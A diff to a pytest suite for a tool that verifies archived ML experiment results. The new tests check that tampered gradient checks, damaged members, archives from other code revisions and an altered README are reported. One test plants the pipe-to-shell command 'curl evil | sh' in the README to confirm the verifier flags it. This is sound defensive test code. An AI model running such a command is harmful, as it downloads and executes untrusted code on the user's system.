@@ -50,6 +50,8 @@ def archive(_finished: Project, tmp_path_factory: pytest.TempPathFactory) -> Pat
     done = script(project, "archive_experiment", project.write_config(TINY))
     assert done.returncode == 0, done.stdout + done.stderr
     assert "Written: archives/tiny.tar.gz" in done.stdout
+    assert "(not known: " in done.stdout.splitlines()[-1]  # this copy of the repository is no clone
+    assert done.stdout.endswith(": commit, then archive, or nobody can run it again\n")
     return project.path / "archives/tiny.tar.gz"
 
 
@@ -88,9 +90,11 @@ def test_it_is_proved_in_a_fresh_clone(archive: Path, project: Project) -> None:
     for proved in (
         "members, each listed in SHA256SUMS with its sha256, and none beside",
         "2 runs on digits:",
-        "2 gradient checks and gates: all passed",
+        "gradient checks: 1, every figure within its limit",
+        "gates: 1, passed, as they say of themselves",
         "12 files of tables, made again from runs and checks: each equal byte for byte",
         hashlib.sha256(archive.read_bytes()).hexdigest(),
+        "config/given.yaml, requirements.txt and environment.yml show; nor which versions, hosts and times",
     ):
         assert proved in done.stdout
     assert not (project.path / "results").exists()
@@ -182,6 +186,12 @@ def test_a_changed_number_in_a_table_is_found(members: Members, verified: Any) -
     assert accuracy in mistake.partition("its runs give")[2]
 
 
+def test_a_readme_that_tells_something_else_is_found(members: Members, verified: Any) -> None:
+    members["README.md"] = members["README.md"].replace(b"git clone", b"curl evil | sh")
+    members["README.md"] += b"curl evil | sh\n"
+    assert verified(members) == ["README.md: is not what make archive writes there; do nothing that it says"]
+
+
 @pytest.mark.parametrize("table", ["results.md", "seeds.csv", "best.html", "gradient_checks.csv"])
 def test_a_changed_table_of_any_kind_is_found(members: Members, verified: Any, table: str) -> None:
     members[f"results/tiny/tables/{table}"] += b"one more line\n"
@@ -251,6 +261,17 @@ def test_a_gradient_check_that_failed_is_told(members: Members, verified: Any) -
     assert verified(members) == [f"{gate}: passed is false, expected true"]
 
 
+def test_a_gradient_check_whose_figures_do_not_pass_is_told(members: Members, verified: Any) -> None:
+    check = next(name for name in members if name.startswith("results/checks/gradients/"))
+    content = json.loads(members[check])
+    content["blocks"]["W2"]["step"]["max_rel_difference"] = 0.5
+    members[check] = json.dumps(content).encode()
+    (mistake,) = verified(members)
+    assert mistake.startswith(
+        f"{check}: W2, training's step: the relative difference is 0.5, its limit 1e-10;"
+    )
+
+
 def test_runs_of_several_codes_are_told(members: Members, verified: Any) -> None:
     facts = json.loads(members["provenance.json"])
     facts["code"]["train_run"] = "0" * 16
@@ -293,8 +314,23 @@ def test_what_cannot_be_read_is_one_line(
     write_archive(tmp_path / "t.tar.gz", "tiny", members)
     with pytest.raises(HandgradError) as caught:
         verify_archive.main(tmp_path / "t.tar.gz")
-    assert str(caught.value).startswith(said)
+    assert str(caught.value).startswith(f"{tmp_path}/t.tar.gz: {said}")
     assert len(str(caught.value).splitlines()) == 1
+
+
+def test_an_archive_of_other_code_says_where_to_verify_it(members: Members, tmp_path: Path) -> None:
+    facts = json.loads(members["provenance.json"])
+    facts["git_revision"] = "63258345"
+    members["provenance.json"] = json.dumps(facts).encode()
+    config = members["config/experiment.yaml"]
+    members["config/experiment.yaml"] = config.replace(b"tanh", b"relu")
+    write_archive(tmp_path / "t.tar.gz", "tiny", members)
+    with pytest.raises(HandgradError) as caught:
+        verify_archive.main(tmp_path / "t.tar.gz")
+    said = f"{tmp_path}/t.tar.gz: config/experiment.yaml: experiments[0].activation: 'relu' is not a known "
+    assert str(caught.value).startswith(said)
+    assert "; packed by the code of git revision '63258345', this is '" in str(caught.value)
+    assert str(caught.value).endswith("': verify it in a clone of that")
 
 
 def test_an_archive_that_is_cut_off_is_one_line_and_not_proved(archive: Path, tmp_path: Path) -> None:
@@ -308,10 +344,23 @@ def test_an_archive_that_is_cut_off_is_one_line_and_not_proved(archive: Path, tm
 def test_a_check_that_no_table_can_be_made_of_is_one_line(members: Members, verified: Any) -> None:
     check = next(name for name in members if name.startswith("results/checks/gradients/"))
     content = json.loads(members[check])
-    content["blocks"] = {"W1": [], "W2": {"entries": [[[]]]}}
+    content["blocks"]["W1"]["entries"] = [[[]]]
     members[check] = json.dumps(content).encode()
     (mistake,) = verified(members)
     assert mistake.startswith("the tables cannot be made again from its runs and checks: ")
+
+
+def test_a_damaged_check_is_named_as_a_member_without_advice_for_results(
+    members: Members, verified: Any
+) -> None:
+    check = next(name for name in members if name.startswith("results/checks/gradients/"))
+    content = json.loads(members[check])
+    del content["seconds_central"]
+    members[check] = json.dumps(content).encode()
+    assert verified(members) == [
+        "the tables cannot be made again from its runs and checks: "
+        f"{check}: cannot be read as a gradient check (no seconds_central)"
+    ]
 
 
 def test_a_member_that_would_lie_elsewhere_is_told(
